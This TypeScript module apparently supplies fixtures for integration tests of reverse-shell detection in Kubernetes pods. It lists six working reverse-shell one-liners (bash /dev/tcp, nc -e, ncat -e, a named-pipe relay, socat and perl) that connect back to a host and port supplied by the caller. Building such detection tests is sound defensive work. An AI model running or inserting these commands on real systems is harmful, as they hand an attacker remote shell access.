/**
 * The six reverse-shell families of test/integration/reverse-shell.test.ts,
 * each as the one-liner an attacker runs inside a pod. They live in that
 * test file unexported (importing a test file would register its suites),
 * so the command lines are restated here; keep the two in step.
 */
export interface Family {
  readonly name: string;
  /** Short, DNS-label-safe tag used in pod names. */
  readonly slug: string;
  /** Container command connecting back to host:port. */
  command(host: string, port: number): string[];
}

export const FAMILIES: readonly Family[] = [
  { name: 'bash /dev/tcp', slug: 'bash', command: (h, p) => ['bash', '-c', `bash -i >& /dev/tcp/${h}/${p} 0>&1`] },
  { name: 'nc -e', slug: 'nc', command: (h, p) => ['nc', h, String(p), '-e', '/bin/sh'] },
  { name: 'ncat -e', slug: 'ncat', command: (h, p) => ['ncat', h, String(p), '-e', '/bin/sh'] },
  {
    name: 'named-pipe relay',
    slug: 'fifo',
    command: (h, p) => ['sh', '-c', `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${h} ${p} > /tmp/f`],
  },
  { name: 'socat exec pty', slug: 'socat', command: (h, p) => ['socat', `TCP:${h}:${p}`, 'EXEC:/bin/sh,pty,stderr,setsid'] },
  {
    name: 'perl dup2 + sh',
    slug: 'perl',
    command: (h, p) => [
      'perl',
      '-e',
      `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${p},inet_aton("${h}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");`,
    ],
  },
];
